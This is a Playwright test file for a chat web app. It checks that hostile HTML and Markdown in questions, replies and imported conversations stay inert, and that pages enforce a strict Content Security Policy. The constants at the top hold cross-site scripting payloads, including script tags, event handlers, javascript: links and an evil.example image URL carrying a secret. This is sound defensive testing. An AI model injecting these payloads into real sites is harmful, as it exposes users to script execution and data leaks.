"""Content that tries to come alive, in questions, replies and titles, under the policy that each page brings."""

import json
import re

import pytest
from playwright.sync_api import Page, expect

from tests.browser.walks import join, send
from tests.browser.website import Website
from tests.browser.windows import Windows

# Whatever of it ran would leave a mark in the window, and what was fetched would be another machine's, which no window
# lets pass.
SCRIPT = "<script>window.alive = 1</script>"
HANDLERS = '<img src="x" onerror="window.alive = 2"><svg onload="window.alive = 3"></svg>'
FRAMES = '<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><button>Go</button></form>'
LINKS = (
    "[one](javascript:window.alive=4) [two](data:text/html,alive) [three](vbscript:x) [four](https://fine.example/) "
    "![a picture](https://evil.example/spy.png?q=secret) ![another](data:image/svg+xml;base64,PHN2Zy8+)"
)
HOSTILE = f"{SCRIPT}\n\n{HANDLERS}\n\n{FRAMES}\n\n{LINKS}"
PRIVATE = ("/", "/settings", "/credits", "/activity", "/statement", "/agent")
PUBLIC = ("/sign-in", "/pricing")
_ALIVE = """() => [...document.querySelectorAll('body *')].filter((one) =>
    ['IFRAME', 'OBJECT', 'EMBED'].includes(one.tagName)
    || [...one.attributes].some(({name, value}) => name.startsWith('on')
        || (['href', 'src', 'action', 'formaction'].includes(name) && /^\\s*(javascript|data|vbscript):/i.test(value))))
    .map((one) => one.outerHTML.slice(0, 200))"""


@pytest.fixture
def page(windows: Windows) -> Page:
    return windows.open()


def is_inert(page: Page) -> None:
    assert page.evaluate("window.alive") is None
    assert page.evaluate(_ALIVE) == []


def test_a_question_and_the_title_that_it_becomes_are_text_whatever_stands_in_them(page: Page) -> None:
    join(page, mode="credits", dollars=10)
    page.goto("/")
    send(page, HOSTILE)
    expect(page.get_by_test_id("reply-cost")).to_have_count(1, timeout=30_000)
    is_inert(page)
    page.reload()
    expect(page.get_by_test_id("reply-text")).to_have_count(1)
    is_inert(page)


def test_a_reply_s_html_scripts_links_and_remote_images_stay_inert(page: Page) -> None:
    join(page)
    export = {
        "format": "projectloom.conversation",
        "version": 1,
        "title": HANDLERS,
        "createdAt": "2026-11-01T00:00:00+00:00",
        "updatedAt": "2026-11-01T00:00:00+00:00",
        "messages": [
            {"role": role, "text": HOSTILE, "createdAt": "2026-11-01T00:00:00+00:00"} for role in ("user", "assistant")
        ],
    }
    answer = page.request.post("/api/conversations/import", data=json.dumps(export))
    assert answer.ok, answer.text()
    page.goto(f"/c/{answer.json()['ids'][0]}")
    text = page.get_by_test_id("reply-text")
    expect(text).to_contain_text("<script>window.alive = 1</script>")
    expect(text).to_contain_text("Image: a picture")
    expect(text.locator("img, script, iframe, form, svg")).to_have_count(0)
    expect(text.get_by_role("link")).to_have_count(1)
    expect(text.get_by_role("link", name="four")).to_have_attribute("rel", re.compile("noopener"))
    is_inert(page)


# Most of what Markdown and GitHub's additions to it can say.
MARKDOWN = """\
## A heading

Some **bold**, *slanted*, ~~struck~~ and `coded` words,\\
<b>no HTML</b> &amp; https://bare.example.

| left | right |
|:-----|------:|
| one  | `two` |

- [x] done
- [ ] open

3. third
4. fourth

> quoted [by reference][name] [here](/pricing "Prices") [nowhere](javascript:x) [mail](mailto:a@b.example)

[name]: https://reference.example
"""


def test_a_reply_is_drawn_as_its_markdown_says(page: Page, site: Website) -> None:
    site.talk(join(page), {"Markdown": ["Show me", MARKDOWN]})
    page.goto("/")
    page.get_by_test_id("conversation").click()
    text = page.get_by_test_id("reply-text")
    expect(text.get_by_role("heading", name="A heading", level=3)).to_be_visible()
    expect(text.locator("p").first).to_have_text(
        "Some bold, slanted, struck and coded words,\n<b>no HTML</b> & https://bare.example."
    )
    expect(text.locator("strong, em, del, p > code, p > br")).to_have_count(5)
    expect(text.get_by_role("cell", name="two")).to_have_css("text-align", "right")
    expect(text.get_by_role("checkbox", checked=True)).to_be_disabled()
    expect(text.get_by_role("checkbox")).to_have_count(2)
    expect(text.locator("ol[start='3'] > li")).to_have_text(["third", "fourth"])
    leads = {one.inner_text(): one.get_attribute("href") for one in text.get_by_role("link").all()}
    assert leads["https://bare.example"] == "https://bare.example"
    assert leads["by reference"] == "https://reference.example"
    assert (leads["here"], leads["mail"]) == ("/pricing", "mailto:a@b.example")
    assert "nowhere" not in leads
    expect(text.locator("blockquote")).to_contain_text("nowhere")


def test_each_page_has_a_policy_without_inline_scripts_and_keeps_to_it(page: Page) -> None:
    for path in PUBLIC:
        page.goto(path)
        page.wait_for_load_state("networkidle")
    join(page, mode="credits", dollars=10)
    # A deep link is answered with another file of the build.
    # A page that was kept is only asked about the second time, and keeps its policy.
    for path in (*PRIVATE, *PRIVATE[:2], "/c/conv_unknown"):
        answer = page.goto(path)
        assert answer is not None
        policy = dict(part.split(" ", 1) for part in answer.headers["content-security-policy"].split("; "))
        assert "'unsafe-inline'" not in policy["script-src"]
        assert "'sha256-" in policy["script-src"]
        assert (policy["connect-src"], policy["frame-ancestors"], policy["base-uri"]) == ("'self'", "'none'", "'none'")
        # What a page would not be allowed it says on its console, which fails the test.
        page.wait_for_load_state("networkidle")


def test_a_script_that_found_its_way_into_a_page_would_not_run(windows: Windows, page: Page) -> None:
    page.goto("/sign-in")
    page.wait_for_load_state("networkidle")
    windows.expect_complaint("Content Security Policy")
    windows.expect_complaint("404")
    page.evaluate(
        """() => {
            window.refused = [];
            document.addEventListener('securitypolicyviolation', (event) => window.refused.push(event.blockedURI));
            const script = document.createElement('script');
            script.textContent = 'window.alive = 1';
            document.body.append(script);
            document.body.insertAdjacentHTML('beforeend', '<img src="/nowhere.svg" onerror="window.alive = 2">');
        }"""
    )
    page.wait_for_function("window.refused.length >= 2")
    assert page.evaluate("window.alive") is None
